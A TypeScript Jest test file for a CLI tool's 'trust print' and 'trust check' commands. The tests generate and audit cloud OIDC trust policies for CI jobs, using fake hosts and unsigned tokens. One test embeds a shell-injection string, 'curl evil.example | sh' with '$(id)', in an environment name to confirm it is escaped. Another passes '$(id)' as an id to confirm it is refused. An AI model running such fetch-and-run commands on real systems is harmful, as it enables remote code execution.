/** The command `trust` as it is typed: what it prints, what it refuses, its exit status; in a job and on a laptop. */
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from '@jest/globals';
import { shell } from '../../src/commands/shell.ts';
import type { Door } from '../../src/flow/door.ts';
import { FakeHost } from '../fakes/fake-host.ts';
import { GITHUB_CLAIMS } from '../privilege/trust/jobs.ts';

interface Typed {
  readonly exit: number;
  readonly stdout: string;
  readonly stderr: string;
  readonly host: FakeHost;
}

interface World {
  readonly files?: Readonly<Record<string, unknown>>;
  readonly stdin?: string;
  /** Claims of the token the job can ask for; undefined: no CI job. */
  readonly job?: object;
}

const part = (value: unknown): string => Buffer.from(JSON.stringify(value)).toString('base64url');

/** A token whose signature nobody looks at. */
function tokenOf(claims: object): string {
  return `${part({ alg: 'RS256', kid: 'k' })}.${part(claims)}.${Buffer.from('signature').toString('base64url')}`;
}

async function type(line: string, { files = {}, stdin = '', job }: World = {}): Promise<Typed> {
  const cwd = mkdtempSync(join(tmpdir(), 'trust-'));
  for (const [name, content] of Object.entries(files)) {
    writeFileSync(join(cwd, name), typeof content === 'string' ? content : JSON.stringify(content));
  }
  const env = job
    ? {
        GITHUB_ACTIONS: 'true',
        GITHUB_WORKSPACE: cwd,
        ACTIONS_ID_TOKEN_REQUEST_URL: 'https://pipelines.example/token?api-version=2.0',
        ACTIONS_ID_TOKEN_REQUEST_TOKEN: 'request-token-0123456789',
      }
    : {};
  const host = new FakeHost({
    env,
    answer: ({ url }) => {
      const aud = new URL(url).searchParams.get('audience');
      const exp = Date.UTC(2026, 10, 21) / 1_000 + 300;
      return {
        status: 200,
        headers: {},
        body: JSON.stringify({ value: tokenOf({ ...job, aud, exp, iat: exp - 300 }) }),
      };
    },
  });
  let [stdout, stderr] = ['', ''];
  const door = {
    argv: line.split(' '),
    env,
    cwd,
    createHost: () => Object.assign(host, { cwd, close: () => [] }),
    giveBack: () => 'gone',
    print: (text: string, to: 'stdout' | 'stderr' = 'stdout') => {
      if (to === 'stdout') stdout += text;
      else stderr += text;
    },
    stdin: () => stdin,
  } as unknown as Door;
  return { exit: await shell(door), stdout, stderr, host };
}

const CLAIMS = { 'claims.json': GITHUB_CLAIMS };

describe('trust print', () => {
  it('prints the trust policy and the permission policy of a job from its claims', async () => {
    const ended = await type(
      'trust print --cloud aws --claims claims.json --role-to-assume arn:aws:iam::210987654321:role/reviewer --aws-region eu-central-1 --model eu.anthropic.claude-sonnet-4-5-20250929-v1:0',
      { files: CLAIMS },
    );
    expect(ended).toMatchObject({ exit: 0, stderr: '' });
    expect(ended.stdout).toContain('"arn:aws:iam::210987654321:oidc-provider/token.actions.githubusercontent.com"');
    expect(ended.stdout).toContain('"token.actions.githubusercontent.com:repository_id": "7654321"');
    expect(ended.stdout).toContain(
      '"arn:aws:bedrock:eu-central-1:210987654321:inference-profile/eu.anthropic.claude-sonnet-4-5-20250929-v1:0"',
    );
    expect(ended.stdout).not.toContain('Replace');
  });

  it('lists the claims beyond the usual ones under a heading of their own', async () => {
    const { stdout } = await type('trust print --cloud google --claims claims.json', { files: CLAIMS });
    const [usual = '', beyond = ''] = stdout.split('and beyond those that messages show anyway');
    expect(usual).toContain('repo:my-org/my-repo:environment:agent');
    expect(usual).not.toContain('7654321');
    expect(beyond).toMatch(/^ {2}repository_id +7654321$/m);
    expect(beyond).toMatch(/^ {2}repository_owner_id +1234567$/m);
  });

  it('asks for the identity token of the job, for the audience of the cloud, and never prints it', async () => {
    const { exit, stdout, stderr, host } = await type('trust print --cloud anthropic', { job: GITHUB_CLAIMS });
    expect(exit).toBe(0);
    expect(host.requests.map(({ url }) => new URL(url).searchParams.get('audience'))).toEqual([
      'https://api.anthropic.com',
    ]);
    expect(stdout).toContain('"subject_prefix": "repo:my-org/my-repo:environment:agent"');
    expect(stdout + stderr).not.toMatch(/eyJ|request-token/);
  });

  it('gives one document to machines', async () => {
    const { stdout } = await type('trust print --cloud openai --claims claims.json --json', { files: CLAIMS });
    const whole = JSON.parse(stdout) as Record<string, unknown>;
    expect(Object.keys(whole)).toEqual([
      'cloud',
      'claims',
      'trust',
      'permissions',
      'cli',
      'terraform',
      'replace',
      'notes',
    ]);
    expect(whole).toMatchObject({ cloud: 'openai', terraform: null, claims: { repository_id: '7654321' } });
  });

  it.each(['cli', 'terraform'])('in the form %s puts everything that is no code into comments', async (format) => {
    const { stdout } = await type(`trust print --cloud aws --claims claims.json --format ${format}`, { files: CLAIMS });
    const [head = ''] = stdout.split('\n\n', 1);
    expect(head.split('\n').every((line) => line.startsWith('#'))).toBe(true);
    expect(head).toContain('issue_comment');
  });

  it('takes names of branches and environments for texts, whatever is in them', async () => {
    const environment = "a'; curl evil.example | sh; echo '${aws:username} %{x} $(id)";
    const odd = {
      ...GITHUB_CLAIMS,
      environment,
      sub: `repo:my-org/my-repo:environment:${environment.replaceAll(':', '%3A')}`,
    };
    const print = async (cloud: string, format: string): Promise<string> =>
      (
        await type(`trust print --cloud ${cloud} --claims claims.json --format ${format}`, {
          files: { 'claims.json': odd },
        })
      ).stdout;
    expect(await print('google', 'cli')).toContain(
      `assertion.environment == "a'\\''; curl evil.example | sh; echo '\\''\${aws:username} %{x} $(id)"`,
    );
    expect(await print('google', 'terraform')).toContain('$${aws:username} %%{x}');
    expect(await print('azure', 'terraform')).toContain('$${aws%3Ausername} %%{x}');
    expect(await print('aws', 'json')).toContain('${$}{aws:username}');
    expect(await print('aws', 'terraform')).toContain('$${$}{aws:username} %%{x}');
  });

  it.each([
    ['without a cloud', 'trust print --claims sparse.json', '--cloud'],
    [
      'of an unknown cloud',
      'trust print --cloud asw --claims claims.json',
      'aws | google | azure | anthropic | openai',
    ],
    ['without claims on a laptop', 'trust print --cloud aws', 'There is no CI job here'],
    ['from a file that is not there', 'trust print --cloud aws --claims gone.json', 'does not exist'],
    ['from a token', 'trust print --cloud aws --claims token.json', 'This is an identity token'],
    ['from claims with a name twice', 'trust print --cloud aws --claims twice.json', 'stands twice'],
    ['with a misspelt flag', 'trust print --cloud aws --clams claims.json', 'There is no input "clams"'],
    ['with a flag twice', 'trust print --cloud aws --cloud google', 'given twice'],
    ['with a flag without value', 'trust print --cloud aws --claims', 'has no value'],
    ["with a role's name", 'trust print --cloud aws --claims claims.json --role-to-assume ci-agent', 'not its ARN'],
    [
      'with an id that is a command',
      'trust print --cloud openai --claims claims.json --openai-service-account-id $(id)',
      'letters, digits',
    ],
    [
      'as Terraform where there is none',
      'trust print --cloud openai --claims claims.json --format terraform',
      'no Terraform',
    ],
    ['misspelt', 'trust prin', 'keyless-agent trust print'],
    ['with a word too many', 'trust print it --cloud aws', 'keyless-agent trust print'],
  ])('%s is refused with what to write', async (_, line, says) => {
    const token = tokenOf(GITHUB_CLAIMS);
    const sparse = { ...GITHUB_CLAIMS, aud: 'https://github.com/my-org' };
    const files = { ...CLAIMS, 'sparse.json': sparse, 'token.json': token, 'twice.json': '{"sub":"a","sub":"b"}' };
    const ended = await type(line, { files });
    expect(ended).toMatchObject({ exit: 2, stdout: '' });
    expect(ended.stderr).toContain(says);
    expect(ended.stderr).not.toContain(token.slice(0, 20));
  });
});

describe('trust check', () => {
  const policy = (condition: object): object => ({
    Version: '2012-10-17',
    Statement: [
      {
        Effect: 'Allow',
        Principal: { Federated: 'arn:aws:iam::123456789012:oidc-provider/token.actions.githubusercontent.com' },
        Action: 'sts:AssumeRoleWithWebIdentity',
        Condition: condition,
      },
    ],
  });
  const P = 'token.actions.githubusercontent.com';
  const aud = { [`${P}:aud`]: 'sts.amazonaws.com' };
  const sub = { [`${P}:sub`]: 'repo:my-org/my-repo:environment:agent' };
  const check = async (document: unknown, more: World = { files: CLAIMS }, flags = '--claims claims.json') => {
    const ended = await type(`trust check trust.json --json ${flags}`.trim(), {
      ...more,
      files: { ...more.files, 'trust.json': document },
    });
    const whole = JSON.parse(ended.stdout) as {
      tight: boolean;
      sets: { id: string; outcome: string; write: string | null }[];
    };
    const of = (outcome: string): string[] => whole.sets.filter((set) => set.outcome === outcome).map(({ id }) => id);
    return { ...ended, tight: whole.tight, in: of('in'), held: of('held'), unknown: of('unknown'), sets: whole.sets };
  };

  it('finds the documented policy with an id tight', async () => {
    const documented = policy({ StringEquals: { ...aud, ...sub, [`${P}:repository_id`]: '7654321' } });
    expect(await check(documented)).toMatchObject({ exit: 0, tight: true, in: [], unknown: [] });
  });

  it.each([
    ['no subject', policy({ StringEquals: aud }), ['other-owner', 'other-repository', 'missing-claims']],
    ['no condition', policy({}), ['other-owner', 'other-audience', 'missing-claims']],
    [
      'every repository of the owner',
      policy({ StringEquals: aud, StringLike: { [`${P}:sub`]: 'repo:my-org/*' } }),
      ['other-repository', 'pull-request', 'comment-event'],
    ],
    [
      'a star behind the owner',
      policy({ StringEquals: aud, StringLike: { [`${P}:sub`]: 'repo:my-org*:environment:agent' } }),
      ['owner-suffix'],
    ],
    [
      'a star behind the repository',
      policy({ StringEquals: aud, StringLike: { [`${P}:sub`]: 'repo:my-org/my-repo*' } }),
      ['repository-suffix', 'no-environment'],
    ],
    [
      'a star before the environment',
      policy({ StringEquals: aud, StringLike: { [`${P}:sub`]: 'repo:my-org/my-repo:*agent' } }),
      ['environment-prefix', 'environment-inside'],
    ],
    [
      'any owner with the environment',
      policy({ StringEquals: aud, StringLike: { [`${P}:sub`]: 'repo:*:environment:agent' } }),
      ['other-owner', 'owner-case'],
    ],
    ['names alone', policy({ StringEquals: { ...aud, ...sub } }), ['taken-over-names', 'missing-ids']],
    [
      'an id that may be missing',
      policy({ StringEquals: { ...aud, ...sub }, StringEqualsIfExists: { [`${P}:repository_id`]: '7654321' } }),
      ['missing-ids'],
    ],
    ['ForAllValues', policy({ StringEquals: aud, 'ForAllValues:StringEquals': sub }), ['missing-claims']],
    ['any case', policy({ StringEqualsIgnoreCase: { ...aud, ...sub } }), ['owner-case']],
    ['no audience', policy({ StringEquals: sub }), ['other-audience']],
    [
      'everybody as principal',
      { ...policy({}), Statement: [{ Effect: 'Allow', Principal: '*', Action: 'sts:*' }] },
      ['other-issuer'],
    ],
  ])('with %s says who gets in', async (_, document, expected) => {
    const judged = await check(document);
    expect(judged.exit).toBe(5);
    expect(judged.in).toEqual(expect.arrayContaining(expected));
    for (const set of judged.sets.filter(({ outcome }) => outcome === 'in')) expect(set.write).not.toBe('');
  });

  it('says who a branch alone lets in: whoever starts a workflow by a comment', async () => {
    const { environment: _, ...rest } = GITHUB_CLAIMS;
    const own = { ...rest, sub: 'repo:my-org/my-repo:ref:refs/heads/main' };
    const branch = { [`${P}:sub`]: own.sub, [`${P}:repository_id`]: '7654321' };
    const judged = await check(policy({ StringEquals: { ...aud, ...branch } }), { files: { 'claims.json': own } });
    expect(judged).toMatchObject({ exit: 5, in: ['comment-event'] });
    const pinned = { ...branch, [`${P}:job_workflow_ref`]: GITHUB_CLAIMS.job_workflow_ref };
    expect(
      await check(policy({ StringEquals: { ...aud, ...pinned } }), { files: { 'claims.json': own } }),
    ).toMatchObject({ exit: 0, in: [] });
  });

  it('never takes unknown for a pass', async () => {
    const odd = policy({ StringEquals: aud, StringMatches: sub });
    const judged = await check(odd);
    expect(judged).toMatchObject({ exit: 5, tight: false, in: [] });
    expect(judged.unknown.length).toBeGreaterThan(10);
  });

  it('proves nothing by a trust that refuses the job itself', async () => {
    const ended = await type('trust check trust.json --claims claims.json', {
      files: { ...CLAIMS, 'trust.json': policy({ StringEquals: { [`${P}:sub`]: 'repo:x/y:environment:z' } }) },
    });
    expect(ended.exit).toBe(5);
    expect(ended.stdout).toContain('Not proved');
  });

  it('judges by the token of the job it runs in', async () => {
    const documented = policy({ StringEquals: { ...aud, ...sub, [`${P}:repository_id`]: '7654321' } });
    expect(await check(documented, { job: GITHUB_CLAIMS }, '')).toMatchObject({ exit: 0, tight: true });
  });

  it('shows everybody in a table, the open ones first, with a line to write', async () => {
    const wide = policy({ StringEquals: aud, StringLike: { [`${P}:sub`]: 'repo:my-org/*' } });
    const { stdout } = await type('trust check trust.json --claims claims.json', {
      files: { ...CLAIMS, 'trust.json': wide },
    });
    expect(stdout).toContain('  ✗ gets in   another repository of the owner, my-org/other-repository\n');
    expect(stdout).toContain('  ✓ refused   a repository of another owner, stranger/my-repo\n');
    expect(stdout).toContain('"StringEquals": { "token.actions.githubusercontent.com:repository_id": "7654321" }');
    expect(stdout.indexOf('✗')).toBeLessThan(stdout.indexOf('✓ refused'));
    expect(stdout).toMatch(/Not tight: 14 hostile claim sets get in\./);
  });

  it.each([
    ['no file', 'trust check --claims claims.json', 'The file is missing'],
    ['a file that is not there', 'trust check gone.json --claims claims.json', 'does not exist'],
    ['no JSON', 'trust check text.json --claims claims.json', 'not JSON'],
    ['no trust', 'trust check claims.json --claims claims.json', 'no trust that is known'],
    ['a misspelt member', 'trust check odd.json --claims claims.json', '"Conditions"'],
    ['both from standard input', 'trust check - --claims -', 'cannot both come from standard input'],
    ['the wrong cloud', 'trust check odd.json --cloud google --claims claims.json', 'no workload identity provider'],
  ])('refuses %s', async (_, line, says) => {
    const odd = { Statement: [{ Effect: 'Allow', Principal: '*', Action: '*', Conditions: {} }] };
    const ended = await type(line, { files: { ...CLAIMS, 'text.json': 'a: b', 'odd.json': odd } });
    expect(ended).toMatchObject({ exit: 2, stdout: '' });
    expect(ended.stderr).toContain(says);
  });

  it('reads a trust from standard input', async () => {
    const ended = await type('trust check - --claims claims.json', {
      files: CLAIMS,
      stdin: JSON.stringify(policy({})),
    });
    expect(ended.exit).toBe(5);
  });
});
